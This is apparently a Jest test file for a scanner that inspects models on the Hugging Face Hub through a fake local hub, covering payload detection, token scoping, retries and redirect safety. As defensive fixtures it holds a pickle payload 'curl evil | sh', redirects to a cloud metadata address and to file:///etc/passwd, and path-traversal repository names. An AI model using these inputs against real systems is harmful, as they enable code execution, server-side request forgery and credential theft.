import { createScanner } from '../../createScanner';
import {
  sparseSafetensors,
  sparseTorchZip,
  startFakeHub,
  torchStateDictPickle,
  VirtualObject,
  type FakeHub,
} from '../../test-support/remote';
import {
  createRemoteSource,
  newTransferContext,
  type RemoteSourcesConfig,
} from '../remoteSources';
import { scanRemoteSource } from '../scanRemote';

jest.setTimeout(30_000);

const GiB = 1024 ** 3;
const SHA = 'a'.repeat(40);
const OLD_SHA = 'b'.repeat(40);
const TOKEN = 'hf_test_token';

const README = '---\nlicense: cc-by-nc-4.0\n---\n# llm\n';

let hub: FakeHub;
let sleeps: number[];

beforeAll(async () => {
  hub = await startFakeHub({
    'acme/llm-5g': {
      revisions: { main: SHA, v1: OLD_SHA },
      token: TOKEN,
      cardData: { license: 'cc-by-nc-4.0' },
      files: {
        'README.md': VirtualObject.of(README),
        'config.json': VirtualObject.of(
          '{"architectures":["LlamaForCausalLM"],"model_type":"llama"}',
        ),
        'model.safetensors.index.json': VirtualObject.of(
          '{"metadata":{},"weight_map":{}}',
        ),
        'model-00001-of-00002.safetensors': sparseSafetensors(
          2.5 * GiB,
          300,
          'a',
        ),
        'model-00002-of-00002.safetensors': sparseSafetensors(
          2.5 * GiB,
          300,
          'b',
        ),
      },
    },
    'acme/torch-2g': {
      revisions: { main: SHA },
      files: {
        'pytorch_model.bin': sparseTorchZip(
          torchStateDictPickle(300, 1000, 'curl evil | sh'),
          2 * GiB,
          300,
        ),
      },
    },
    'acme/gated': {
      revisions: { main: SHA },
      token: 'hf_other',
      gated: true,
      files: {},
    },
  });
});
afterAll(() => hub.close());
beforeEach(() => {
  hub.served.body = 0;
  hub.served.requests = 0;
  hub.served.log.length = 0;
  hub.faults.length = 0;
  hub.redirectOverride = undefined;
  sleeps = [];
});

function config(token?: string): RemoteSourcesConfig {
  return {
    huggingface: {
      endpoint: hub.hub.origin,
      token,
      redirectHosts: [`localhost:${hub.cdn.port}`],
      http: { retryBaseMs: 1, sleep: async ms => void sleeps.push(ms) },
    },
  };
}

async function scan(uri: string, token?: string) {
  const transfer = newTransferContext();
  const source = createRemoteSource(uri, config(token), transfer);
  return {
    result: await scanRemoteSource(createScanner(), source, transfer),
    transfer,
  };
}

describe('Hugging Face Hub source', () => {
  it('judges a 5 GiB sharded safetensors model from its headers, under 1 MB per GB transferred', async () => {
    const { result, transfer } = await scan('hf://acme/llm-5g', TOKEN);
    expect(result.remote).toMatchObject({
      kind: 'huggingface',
      revision: SHA,
      pinnedUri: `hf://acme/llm-5g@${SHA}`,
    });
    expect(result.files.map(f => f.path)).toContain(
      'model-00002-of-00002.safetensors',
    );
    expect(result.findings.filter(f => f.ruleId.startsWith('SCAN-'))).toEqual(
      [],
    );
    expect(
      result.files.find(f => f.path.startsWith('model-00001'))?.formats,
    ).toContain('safetensors');
    // The budget is on what the server actually sent.
    expect(hub.served.body).toBeLessThan(5 * 1_000_000);
    expect(transfer.meter.bytes).toBe(hub.served.body);
  });

  it('uses the Hub card data licence as evidence for the licence policy', async () => {
    const { result } = await scan('hf://acme/llm-5g', TOKEN);
    const component = result.components.find(c => c.name === 'acme/llm-5g');
    expect(component).toMatchObject({
      license: 'cc-by-nc-4.0',
      purl: `pkg:huggingface/acme/llm-5g@${SHA}`,
    });
    expect(
      result.findings.some(
        f =>
          f.ruleId.startsWith('LICENCE-') && f.message.includes('acme/llm-5g'),
      ),
    ).toBe(true);
  });

  it('sends the token to the Hub only, never to the CDN a read is redirected to', async () => {
    await scan('hf://acme/llm-5g', TOKEN);
    const toCdn = hub.served.log.filter(
      entry => entry.host === `localhost:${hub.cdn.port}`,
    );
    const toHub = hub.served.log.filter(
      entry => entry.host === `127.0.0.1:${hub.hub.port}`,
    );
    expect(toCdn.length).toBeGreaterThan(0);
    expect(
      toCdn.every(entry => entry.authorization === undefined && entry.range),
    ).toBe(true);
    expect(
      toHub.every(entry => entry.authorization === `Bearer ${TOKEN}`),
    ).toBe(true);
  });

  it('finds a payload in a 2 GiB PyTorch zip of 300 storages, under 1 MB per GB transferred', async () => {
    const { result } = await scan(`${hub.hub.origin}/acme/torch-2g`);
    expect(
      result.findings.some(
        f => f.severity === 'critical' && f.message.includes('os.system'),
      ),
    ).toBe(true);
    expect(hub.served.body).toBeLessThan(2 * 1_000_000);
  });

  it('pins a tag to its commit and gives a digest without transferring file bytes', async () => {
    const source = createRemoteSource('hf://acme/llm-5g@v1', config(TOKEN));
    expect(await source.digest()).toBe(`hf:acme/llm-5g@${OLD_SHA}`);
    expect(hub.served.body).toBe(0);
    expect(hub.served.log.map(entry => entry.url)).toEqual([
      `/api/models/acme/llm-5g/revision/v1`,
    ]);
  });

  it('reports a private repository without a token, and a gated one, as incomplete, never a pass', async () => {
    const unauthenticated = await scan('hf://acme/llm-5g');
    expect(unauthenticated.result.findings).toEqual([
      expect.objectContaining({
        ruleId: 'SCAN-REMOTE-INCOMPLETE',
        message: expect.stringContaining('HF_TOKEN'),
      }),
    ]);
    const gated = await scan('hf://acme/gated', TOKEN);
    expect(gated.result.findings[0]).toMatchObject({
      ruleId: 'SCAN-REMOTE-INCOMPLETE',
      message: expect.stringContaining('gated'),
    });
  });

  it('retries 429 and 503 answers, waiting as long as Retry-After says', async () => {
    hub.faults.push({
      match: /\/api\/models\//,
      status: 429,
      headers: { 'Retry-After': '2' },
    });
    hub.faults.push({ match: /\/resolve\//, status: 503, times: 2 });
    const { result } = await scan('hf://acme/llm-5g', TOKEN);
    expect(result.findings.filter(f => f.ruleId.startsWith('SCAN-'))).toEqual(
      [],
    );
    expect(sleeps[0]).toBe(2000);
    expect(sleeps).toHaveLength(3);
  });

  it('gives up after its retries with an incomplete finding for the file it could not read', async () => {
    hub.faults.push({ match: /path=model-00002/, status: 503, times: 100 });
    const { result } = await scan('hf://acme/llm-5g', TOKEN);
    expect(result.findings).toContainEqual(
      expect.objectContaining({
        ruleId: 'SCAN-REMOTE-INCOMPLETE',
        location: { path: 'model-00002-of-00002.safetensors' },
      }),
    );
  });

  it('refuses a redirect to the cloud metadata address or any host not in configuration', async () => {
    for (const target of [
      'http://169.254.169.254/latest/meta-data/',
      'http://evil.example/x',
      'file:///etc/passwd',
    ]) {
      hub.redirectOverride = target;
      const { result } = await scan('hf://acme/llm-5g', TOKEN);
      const incomplete = result.findings.filter(
        f => f.ruleId === 'SCAN-REMOTE-INCOMPLETE',
      );
      expect(incomplete.map(f => f.location.path).sort()).toEqual([
        'model-00001-of-00002.safetensors',
        'model-00002-of-00002.safetensors',
      ]);
    }
    expect(hub.served.log.some(entry => entry.host.includes('169.254'))).toBe(
      false,
    );
  });

  it('rejects repository names and revisions that would leave the API path', () => {
    for (const uri of [
      'hf://acme/../x',
      'hf://acme/llm@../../x',
      'hf://acme',
      'https://evil.example/acme/llm',
    ]) {
      expect(() => createRemoteSource(uri, config())).toThrow(/not an hf:/);
    }
  });
});
